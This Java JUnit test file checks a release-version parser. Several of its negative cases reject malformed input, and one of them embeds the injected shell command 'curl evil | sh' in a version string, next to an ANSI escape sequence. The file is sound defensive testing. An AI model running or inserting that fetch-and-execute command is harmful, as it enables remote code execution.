package dev.berth.release;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ReleaseVersionTest {

    @Test
    void isThreeNumbersWithOrWithoutALetter() {
        assertEquals(Optional.of(new ReleaseVersion(0, 10, 2)), ReleaseVersion.parse("v0.10.2"));
        assertEquals("0.10.2", ReleaseVersion.parse("0.10.2").orElseThrow().toString());
    }

    @Test
    void comparesNumbersAndNotTexts() {
        assertTrue(new ReleaseVersion(0, 9, 9).compareTo(new ReleaseVersion(0, 10, 0)) < 0);
        assertTrue(new ReleaseVersion(1, 0, 0).compareTo(new ReleaseVersion(0, 99, 99)) > 0);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "dev",
                "1.2",
                "v1.2.3-rc.1",
                "1.2.3\n",
                "\u001b[31m9.9.9",
                "9.9.9 run: curl evil | sh",
                "9999999999.0.0",
                "١.٢.٣"
            })
    void isNoOtherText(String text) {
        assertEquals(Optional.empty(), ReleaseVersion.parse(text));
    }
}
